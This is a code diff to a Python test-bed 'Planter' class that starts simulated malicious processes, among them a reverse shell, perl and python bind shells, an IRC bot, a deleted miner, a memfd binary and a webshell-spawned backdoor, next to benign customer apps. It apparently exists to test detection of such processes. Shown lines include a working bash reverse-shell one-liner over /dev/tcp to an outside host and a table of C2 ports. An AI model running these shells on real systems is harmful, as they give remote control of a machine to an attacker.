@@ -11,17 +11,31 @@ from __future__ import annotations
 
 import os
 import shutil
+import subprocess
 import sys
 import textwrap
 import time
 from dataclasses import dataclass, field
 
-from .bed import INTERNET, LOCALHOST, Bed, Unavailable, wait_for
+from .bed import INTERNET, LOCALHOST, Bed, port_free, wait_for
+from .packages import BedError, Unavailable
 from .procfacts import read_processes
 
 # the attackers' servers: (port, what it is)
 C2_PORTS = {"reverse_shell": 4443, "irc": 6667, "pool": 3333, "memfd": 7777,
             "nginx_named": 8443, "httpd_child": 8444, "webshell": 5555}
+
+BIND_SHELL_PORT = 31337
+BIND_SHELL_V6_PORT = 31338
+RENAMED_PORT = 9100
+NETNS_PORT = 4444
+NETNS_ACCOUNT = 17
+
+# (name, title, account index, port, program, address)
+CUSTOMER_APPS = (("node_shop", "node app on 127.0.0.1:3000", 3, 3000, "node", LOCALHOST),
+                 ("python_api", "python http.server on 127.0.0.1:8000", 4, 8000, "python",
+                  LOCALHOST),
+                 ("node_chat", "node app on [::1]:3001", 5, 3001, "node", "::1"))
 
 C2_SERVER = textwrap.dedent("""\
     import socket, sys, threading
@@ -135,6 +149,7 @@ class Planter:
         self.customer_apps: list[Planted] = []
 
     def plant_all(self) -> None:
+        self._check_host()
         self._c2()
         for plant in (self._reverse_shell, self._bind_shell_v4, self._bind_shell_v6,
                       self._irc_bot, self._deleted_miner, self._renamed_perl, self._memfd,
@@ -142,6 +157,21 @@ class Planter:
                       self._webshell_backdoor):
             plant()
         self._customer_apps()
+
+    def _check_host(self) -> None:
+        wanted = [(INTERNET, port) for port in C2_PORTS.values()] + [
+            ("0.0.0.0", BIND_SHELL_PORT), ("::", BIND_SHELL_V6_PORT), (LOCALHOST, RENAMED_PORT),
+            *((host, port) for _n, _t, _i, port, _k, host in CUSTOMER_APPS)]
+        busy = [f"{host}:{port}" for host, port in wanted if not port_free(port, host)]
+        if busy:
+            raise Unavailable(f"ports busy: {busy}")
+        account = self.bed.account(NETNS_ACCOUNT)
+        probe = subprocess.run(["/usr/bin/setpriv", f"--reuid={account.uid}",
+                                f"--regid={account.uid}", "--clear-groups", "--",
+                                "/usr/bin/unshare", "-Urn", "/bin/true"], capture_output=True)
+        if probe.returncode != 0:
+            raise Unavailable("an account cannot make a user namespace here (unshare -Urn: "
+                              f"{probe.stderr.decode(errors='replace').strip()})")
 
     def _await(self, planted: Planted, uid: int, test, started=None) -> Planted:
         """Wait until the process holding the socket ``test`` describes exists; record it."""
@@ -196,12 +226,13 @@ class Planter:
                      ["/bin/bash", "-c", f"exec /bin/bash -i >& /dev/tcp/{INTERNET}/{port} 0>&1"])
 
     def _bind_shell_v4(self) -> None:
-        self._attack("bind_shell_v4", "bind shell on 0.0.0.0 (perl)", 11, _listening_on(31337),
-                     ["/usr/bin/perl", "-e", perl_listener("0.0.0.0", 31337)])
+        self._attack("bind_shell_v4", "bind shell on 0.0.0.0 (perl)", 11, _listening_on(BIND_SHELL_PORT),
+                     ["/usr/bin/perl", "-e", perl_listener("0.0.0.0", BIND_SHELL_PORT)])
 
     def _bind_shell_v6(self) -> None:
-        self._attack("bind_shell_v6", "bind shell on [::] (python)", 12, _listening_on(31338),
-                     ["/usr/bin/python3", "-c", PYTHON_INERT_LISTENER.format(port=31338)])
+        self._attack("bind_shell_v6", "bind shell on [::] (python)", 12, _listening_on(BIND_SHELL_V6_PORT),
+                     ["/usr/bin/python3", "-c",
+                      PYTHON_INERT_LISTENER.format(port=BIND_SHELL_V6_PORT)])
 
     def _irc_bot(self) -> None:
         hello = "NICK bot123\\r\\nUSER bot 0 * :bot\\r\\nJOIN #cmd\\r\\n"
@@ -217,12 +248,13 @@ class Planter:
                                [binary, "-e", perl_connect(C2_PORTS["pool"], hello)])
         os.unlink(binary)        # the running copy is all that is left
         if not os.readlink(f"/proc/{planted.pids[0]}/exe").endswith(" (deleted)"):
-            raise Unavailable("the miner's executable is not shown as deleted")
+            raise BedError("the miner's executable is not shown as deleted")
 
     def _renamed_perl(self) -> None:
         self._attack("renamed_perl", "perl renamed 'php-fpm: pool www', listening", 15,
-                     _listening_on(9100),
-                     ["/usr/bin/perl", "-e", perl_listener(LOCALHOST, 9100, "php-fpm: pool www")])
+                     _listening_on(RENAMED_PORT),
+                     ["/usr/bin/perl", "-e",
+                      perl_listener(LOCALHOST, RENAMED_PORT, "php-fpm: pool www")])
 
     def _memfd(self) -> None:
         # the binary only ever exists in memory: exe is "/memfd:... (deleted)"
@@ -238,9 +270,9 @@ class Planter:
 
     def _netns_listener(self) -> None:
         self._attack("netns_listener", "listener in a user+network namespace (unshare -Urn)",
-                     17, _listening_on(4444),
+                     NETNS_ACCOUNT, _listening_on(NETNS_PORT),
                      ["/usr/bin/unshare", "-Urn", "/usr/bin/perl", "-e",
-                      perl_listener("0.0.0.0", 4444)])
+                      perl_listener("0.0.0.0", NETNS_PORT)])
 
     def _nginx_named(self) -> None:
         index = 18
@@ -277,20 +309,17 @@ class Planter:
         self.bed.write(path, page, owner=account.uid)
         answer = self.bed.get(account, "/" + relative)
         if answer.strip() != "ok":
-            raise Unavailable(f"the webshell did not run: {answer[:200]!r}")
+            raise BedError(f"the webshell did not run: {answer[:200]!r}")
         planted = self._attack("webshell_backdoor", "perl backdoor started by a PHP webshell",
                                index, _connected_to(C2_PORTS["webshell"]))
         parent = read_processes([planted.pids[0]])[planted.pids[0]].ppid
         if "php-fpm: pool" not in read_processes([parent]).get(parent, _NO_FACT).cmdline:
-            raise Unavailable("the webshell's backdoor is not a child of a php-fpm worker")
+            raise BedError("the webshell's backdoor is not a child of a php-fpm worker")
 
     # ---------------------------------------------------------------- customer apps
 
     def _customer_apps(self) -> None:
-        apps = [("node_shop", "node app on 127.0.0.1:3000", 3, 3000, "node", LOCALHOST),
-                ("python_api", "python http.server on 127.0.0.1:8000", 4, 8000, "python", ""),
-                ("node_chat", "node app on [::1]:3001", 5, 3001, "node", "::1")]
-        for name, title, index, port, kind, host in apps:
+        for name, title, index, port, kind, host in CUSTOMER_APPS:
             account = self.bed.account(index)
             if kind == "node" and os.path.exists("/usr/bin/node"):
                 source = self.bed.write(os.path.join(account.home, "app", "server.js"),
@@ -298,8 +327,7 @@ class Planter:
                                         owner=account.uid)
                 argv = ["/usr/bin/node", source]
             else:
-                argv = ["/usr/bin/python3", "-m", "http.server", str(port), "--bind",
-                        host or LOCALHOST]
+                argv = ["/usr/bin/python3", "-m", "http.server", str(port), "--bind", host]
             started = self.bed.spawn(f"app {name}", argv, user=account.name, cwd=account.home)
             planted = self._await(Planted(name, title, account.name), account.uid,
                                   _listening_on(port), started)
